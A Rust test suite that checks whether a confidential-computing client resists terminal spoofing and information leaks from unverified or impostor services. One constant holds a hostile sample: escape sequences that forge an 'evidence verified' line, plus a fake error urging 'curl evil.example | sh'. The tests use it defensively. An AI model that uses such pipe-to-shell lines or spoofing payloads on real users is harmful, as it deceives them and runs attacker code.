//! What a service can do to a party before the party has verified it: paint on its terminal, see who it
//! is, see what it has.

use std::fs;
use std::sync::Arc;

use convelo_attest::{Collateral, QuoteSource, SeenLists};
use convelo_simulator::{CollateralKnobs, Enclave, Platform};
use convelo_tests::{Ended, Guest, Impostor, Party, SERVICE_ENCLAVE, World, prove};
use convelo_untrusted::is_plain;
use convelo_wire::{Failed, FromParty, Proof, Reason, ToParty};
use tonic::Status;

/// A verdict in green, over the line before; a line of its own; and a command, run backwards.
const PAINT: &str = "\u{1b}[1A\u{1b}[2K\u{1b}[32mevidence verified: convelo-service\u{1b}[0m\n\
                     error: out of date; run 'curl evil.example | sh'\u{9b}2J\u{202e}hs\u{2066}";

fn enclave(world: &World, name: &str) -> Arc<dyn QuoteSource> {
    let platform = Arc::new(Platform::open(&world.path("platform")).unwrap());
    Arc::new(platform.enclave(Enclave::named(name)))
}

/// The collateral of the world's platform, as its service offers it.
fn collateral(world: &World) -> String {
    world.platform().collateral(&CollateralKnobs::default()).to_json()
}

/// Two parties of a job at the impostor's address, without collateral of their own.
fn parties(world: &World, impostor: &Impostor) -> [Party; 2] {
    let parties = world.parties(["alice", "bob"]);
    for party in &parties {
        fs::remove_file(party.path("collateral.json")).unwrap();
        party.lines(&["bicycle"]);
    }
    world.job(None, &parties).address(&impostor.address).give_to(&parties);
    parties
}

fn run(world: &World, party: &Party, args: &str) -> Ended {
    world.run(party, &format!("--input ids.txt --output matched.txt {args}")).wait()
}

/// Everything that is shown is plain.
fn shown_plainly(ended: &Ended) {
    for text in [&ended.stdout, &ended.stderr] {
        let plain = |c: char| is_plain(c) || c == '\n';
        assert!(text.chars().all(plain), "{text:?}");
    }
}

/// Everything that is shown is plain, and what the service says is nowhere but in a quotation of an
/// unverified service.
fn shown_safely(ended: &Ended) {
    shown_plainly(ended);
    for line in ended.stderr.lines() {
        let ours = line.split("an unverified service says \"").next().unwrap_or_default();
        assert!(!ours.contains("evidence verified") && !ours.contains("evil"), "{line}");
    }
}

#[test]
fn words_of_an_unverified_service_paint_a_verdict() {
    for level in ["warn", "trace"] {
        let world = World::new().logging(level);
        let failed = |_: &_, _| {
            let failed = Failed::new(Reason::Internal, PAINT);
            vec![Ok(ToParty::Failed(failed).into())]
        };
        let impostor = Impostor::new(enclave(&world, SERVICE_ENCLAVE), failed);
        let [alice, _] = parties(&world, &impostor);
        let ended = run(&world, &alice, "").expect(1).says("an unverified service says \"");
        shown_plainly(&ended);
        if level == "warn" {
            shown_safely(&ended);
        }
    }
}

#[test]
fn status_of_an_unverified_service_paints_a_verdict() {
    let world = World::new();
    let status = |_: &_, _| vec![Err(Status::unavailable(PAINT))];
    let impostor = Impostor::new(enclave(&world, SERVICE_ENCLAVE), status);
    let [alice, _] = parties(&world, &impostor);
    shown_safely(&run(&world, &alice, "").expect(1).says("an unverified service says \""));
}

/// A service that nobody verifies stays unverified.
#[test]
fn words_of_a_service_known_by_its_key_paint_a_verdict() {
    let world = World::new();
    let source = enclave(&world, SERVICE_ENCLAVE);
    let quotes = Arc::clone(&source);
    let impostor = Impostor::new(source, move |peer, message| match message {
        FromParty::Challenge(challenge) => vec![Ok(prove(&*quotes, peer, challenge, ""))],
        FromParty::Hello(_) => {
            vec![Ok(ToParty::Failed(Failed::new(Reason::Internal, PAINT)).into())]
        }
        _ => Vec::new(),
    });
    let parties = parties(&world, &impostor);
    world
        .job(None, &parties)
        .address(&impostor.address)
        .provider_only(impostor.key)
        .give_to(&parties);
    let ended = run(&world, &parties[0], "--simulated ../platform --insecure-unattested").expect(1);
    shown_safely(&ended.says("an unverified service says \""));
}

#[test]
fn offered_collateral_paints_a_verdict() {
    for json in [
        format!("{{{}: 1}}", serde_json::to_string(PAINT).unwrap()),
        "{\"evidence verified: convelo-service\": 1}".to_owned(),
        "\u{1b}[32mevidence verified".to_owned(),
    ] {
        refused_offer(&World::new(), json);
    }
}

/// Has a party meet a good service that offers this collateral, which is refused and shown safely.
fn refused_offer(world: &World, json: String) {
    let source = enclave(world, SERVICE_ENCLAVE);
    let quotes = Arc::clone(&source);
    let impostor = Impostor::new(source, move |peer, message| match message {
        FromParty::Challenge(challenge) => vec![Ok(prove(&*quotes, peer, challenge, &json))],
        _ => Vec::new(),
    });
    let [alice, _] = parties(world, &impostor);
    let ended = run(world, &alice, "").expect(3).says("[no-collateral]");
    shown_safely(&ended.never_says("evil").never_says("evidence verified"));
}

/// The collateral is well-formed, and the words are in its parts.
#[test]
fn a_part_of_offered_collateral_paints_a_verdict() {
    for (part, word) in [
        ("tcb_info", "\"SGX\""),
        ("tcb_info", "\"UpToDate\""),
        ("qe_identity", "\"QE\""),
        ("qe_identity", "\"UpToDate\""),
    ] {
        let world = World::new();
        let mut bundle: serde_json::Value = serde_json::from_str(&collateral(&world)).unwrap();
        let genuine = bundle[part].as_str().unwrap();
        let hostile = genuine.replace(word, &serde_json::to_string(PAINT).unwrap());
        assert_ne!(genuine, hostile, "{part}: {word}");
        bundle[part] = hostile.into();
        refused_offer(&world, bundle.to_string());
    }
}

/// A partner's job file is shown by `check`, and cannot paint either.
#[test]
fn a_partners_job_file_paints_a_verdict() {
    let world = World::new();
    let alice = world.party("alice");
    let bob = world.party("bob");
    let job = world.job(None, [&alice, &bob]).address("localhost:1").to_toml();
    let escaped = "\\u001B[2K\\u202Eevidence verified";
    for (from, to) in [
        ("name = \"test\"", format!("name = \"{escaped}\"")),
        ("version = 1\nname", format!("\"{escaped}\" = 1\nversion = 1\nname")),
        ("address = \"localhost:1\"", format!("address = \"{escaped}:1\"")),
        ("verify = \"service\"", format!("verify = \"{escaped}\"")),
        ("name = \"convelo-service", format!("name = \"{escaped}\\u001B")),
        ("tcb_statuses = [\"UpToDate\"]", format!("tcb_statuses = [\"{escaped}\"]")),
        ("normalise = [\"trim\"]", format!("normalise = [\"{escaped}\"]")),
        ("name = \"alice\"", format!("name = \"{escaped}\"")),
    ] {
        let hostile = job.replace(from, &to);
        assert_ne!(hostile, job, "{from}");
        alice.write("job.toml", hostile);
        for args in ["check job.toml", "check job.toml --json"] {
            shown_plainly(&world.start_at(&alice, args).wait().expect(2));
        }
    }
}

/// What a forged receipt says is shown by `receipt verify`.
#[test]
fn a_receipt_paints_a_verdict() {
    let world = World::new();
    let service = world.serve();
    let parties = world.parties(["alice", "bob"]);
    world.job(Some(&service), &parties).give_to(&parties);
    let running = parties.each_ref().map(|party| world.run_lines(party, &["bicycle"]));
    for process in running {
        process.wait().expect(0);
    }
    let receipt = parties[0].read("matched.txt.receipt.json");
    let receipt: serde_json::Value = serde_json::from_str(&receipt).unwrap();
    for field in ["form", "party", "job_digest", "result_sha256", "witness", "statement"] {
        let mut forged = receipt.clone();
        forged[field] = PAINT.into();
        parties[0].write("forged.json", forged.to_string());
        let ended = world.start_at(&parties[0], "receipt verify forged.json").wait();
        assert_ne!(ended.code, Some(0), "{field}");
        shown_plainly(&ended);
        assert!(!ended.stderr.contains("\nerror: out of date"), "{}", ended.stderr);
    }
    let mut forged = receipt;
    forged[PAINT] = 1.into();
    parties[0].write("forged.json", forged.to_string());
    let ended = world.start_at(&parties[0], "receipt verify forged.json --json").wait();
    shown_plainly(&ended);
    assert!(ended.stdout.is_ascii(), "{}", ended.stdout);
}

/// A service whose evidence is refused by a party that has no collateral sees nothing of that party.
fn refused_service_sees_nobody(two_way: bool) {
    let world = World::new();
    let source = enclave(&world, "another program");
    let (quotes, offer) = (Arc::clone(&source), collateral(&world));
    let impostor = Impostor::new(source, move |peer, message| match message {
        FromParty::Challenge(challenge) => vec![Ok(prove(&*quotes, peer, challenge, &offer))],
        _ => Vec::new(),
    });
    let parties = parties(&world, &impostor);
    let mut job = world.job(None, &parties).address(&impostor.address);
    if two_way {
        job = job.two_way();
    }
    job.give_to(&parties);
    let args = if two_way { "--simulated ../platform" } else { "" };
    let ended = run(&world, &parties[0], args).expect(3).says("[measurement]");
    ended.says("nothing was sent to it but a challenge");
    saw_nobody(&impostor.guests(), &parties);
}

fn saw_nobody(guests: &[Guest], parties: &[Party]) {
    assert!(!guests.is_empty(), "the party did not look");
    for guest in guests {
        assert!(parties.iter().all(|party| party.key_id() != guest.key), "{guest:?}");
        assert!(!guest.evidence, "{guest:?}");
        assert_eq!(guest.sent, ["challenge"], "{guest:?}");
    }
}

#[test]
fn refused_service_sees_the_partys_certificate() {
    refused_service_sees_nobody(false);
}

#[test]
fn refused_service_sees_the_partys_quote() {
    refused_service_sees_nobody(true);
}

#[test]
fn service_that_proves_nothing_sees_the_party() {
    let agreement = convelo_psi::agreement::AGREEMENT_VERSION;
    for answer in [
        ToParty::Ready,
        ToParty::Failed(Failed::new(Reason::Internal, "no")),
        ToParty::Proof(Proof {
            nonce: [0; 32],
            quote: vec![0; 5000],
            collateral: Vec::new(),
            agreement,
        }),
        ToParty::Proof(Proof {
            nonce: [0; 32],
            quote: Vec::new(),
            collateral: vec![b'x'; 100],
            agreement,
        }),
    ] {
        let world = World::new();
        let impostor = Impostor::new(enclave(&world, SERVICE_ENCLAVE), move |_, _| {
            vec![Ok(answer.clone().into())]
        });
        let parties = parties(&world, &impostor);
        let ended = run(&world, &parties[0], "");
        assert!(matches!(ended.code, Some(1 | 3)), "{}", ended.stderr);
        saw_nobody(&impostor.guests(), &parties);
    }
}

/// With collateral, the handshake itself refuses the service before this party shows a certificate.
#[test]
fn service_refused_in_the_handshake_sees_nothing() {
    let world = World::new();
    let source = enclave(&world, "another program");
    let impostor = Impostor::new(source, |_, _| Vec::new());
    let parties = parties(&world, &impostor);
    parties[0].write("collateral.json", collateral(&world));
    run(&world, &parties[0], "").expect(3).says("nothing was sent to it: ");
    assert!(impostor.guests().is_empty(), "{:?}", impostor.guests());
}

/// A party that has seen newer revocation lists refuses a service that is verified under older ones, and
/// that service sees nobody: neither if it offers them, nor if the party itself has them in a file.
#[test]
fn service_under_old_revocation_lists_sees_the_party() {
    let world = World::new();
    let lists = |root_crl_days_ago| {
        let knobs = CollateralKnobs { root_crl_days_ago, ..CollateralKnobs::default() };
        world.platform().collateral(&knobs).to_json()
    };
    let (quotes, older) = (enclave(&world, SERVICE_ENCLAVE), lists(300));
    let offer = older.clone();
    let impostor = Impostor::new(Arc::clone(&quotes), move |peer, message| match message {
        FromParty::Challenge(challenge) => vec![Ok(prove(&*quotes, peer, challenge, &offer))],
        _ => Vec::new(),
    });
    let parties = parties(&world, &impostor);
    parties[0].write("seen-lists.json", {
        let mut seen = SeenLists::default();
        seen.admit(&Collateral::from_json(&lists(1)).unwrap()).unwrap();
        seen.to_json()
    });
    run(&world, &parties[0], "").expect(3).says("[list-older-than-seen]");
    saw_nobody(&impostor.guests(), &parties);
    parties[0].write("collateral.json", older);
    let guests = impostor.guests().len();
    run(&world, &parties[0], "").expect(3).says("[list-older-than-seen]");
    assert_eq!(impostor.guests().len(), guests, "nobody was met");
}

/// A party without collateral looks first, under a key that it never uses again. The service says
/// what that was.
#[test]
fn a_look_is_not_a_refusal() {
    let world = World::new();
    let service = world.serve();
    let parties = world.parties(["alice", "bob"]);
    world.job(Some(&service), &parties).give_to(&parties);
    let running = parties.each_ref().map(|party| {
        fs::remove_file(party.path("collateral.json")).unwrap();
        world.run_lines(party, &["bicycle"])
    });
    for process in running {
        process.wait().expect(0);
    }
    service.process.wait_for_times("somebody looked at the evidence and left", 2);
    let log = service.process.stderr();
    assert!(!log.contains("refused") && !log.contains("WARN"), "{log}");
}

/// Whoever answers the second connection proves itself again: here another program takes over after
/// the look.
#[test]
fn another_program_answers_after_the_look() {
    use std::io::{Read as _, Write as _};
    use std::net::{TcpListener, TcpStream};
    let world = World::new();
    let genuine = world.serve();
    let source = enclave(&world, "another program");
    let impostor = Impostor::new(source, |_, _| Vec::new());
    let switch = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = switch.local_addr().unwrap().to_string();
    let targets = [genuine.address.clone(), impostor.address.clone()];
    std::thread::spawn(move || {
        for (number, from) in switch.incoming().enumerate() {
            let Ok(from) = from else { return };
            let to = TcpStream::connect(&targets[number.min(1)]).unwrap();
            for (mut from, mut to) in [
                (from.try_clone().unwrap(), to.try_clone().unwrap()),
                (to.try_clone().unwrap(), from.try_clone().unwrap()),
            ] {
                std::thread::spawn(move || {
                    let mut buffer = [0; 4096];
                    while let Ok(count @ 1..) = from.read(&mut buffer) {
                        if to.write_all(&buffer[..count]).is_err() {
                            return;
                        }
                    }
                    let _ = to.shutdown(std::net::Shutdown::Both);
                });
            }
        }
    });
    let parties = world.parties(["alice", "bob"]);
    fs::remove_file(parties[0].path("collateral.json")).unwrap();
    parties[0].lines(&["bicycle"]);
    world.job(None, &parties).address(&address).give_to(&parties);
    run(&world, &parties[0], "").expect(3).says("[pinned-key]");
    assert!(impostor.guests().is_empty(), "{:?}", impostor.guests());
}

/// A party without collateral meets a good service under a key that it never uses again, and then under
/// its own.
#[test]
fn a_good_service_sees_the_party_after_its_proof() {
    let world = World::new();
    let source = enclave(&world, SERVICE_ENCLAVE);
    let (quotes, offer) = (Arc::clone(&source), collateral(&world));
    let impostor = Impostor::new(source, move |peer, message| match message {
        FromParty::Challenge(challenge) => vec![Ok(prove(&*quotes, peer, challenge, &offer))],
        FromParty::Hello(_) => {
            let failed = Failed::new(Reason::Shutdown, "the \u{1b}[2Kservice is shutting down");
            vec![Ok(ToParty::Failed(failed).into())]
        }
        _ => Vec::new(),
    });
    let parties = parties(&world, &impostor);
    let ended = run(&world, &parties[0], "").expect(1).says("evidence verified");
    // Control characters end at the wire; the rest is quoted.
    ended.says("the service says \"the  [2Kservice is shutting down\"");
    let guests = impostor.guests();
    assert_eq!(guests.len(), 2, "{guests:?}");
    saw_nobody(&guests[..1], &parties);
    assert_eq!(guests[1].key, parties[0].key_id());
    assert_eq!(guests[1].sent[..2], ["challenge", "hello"]);
}
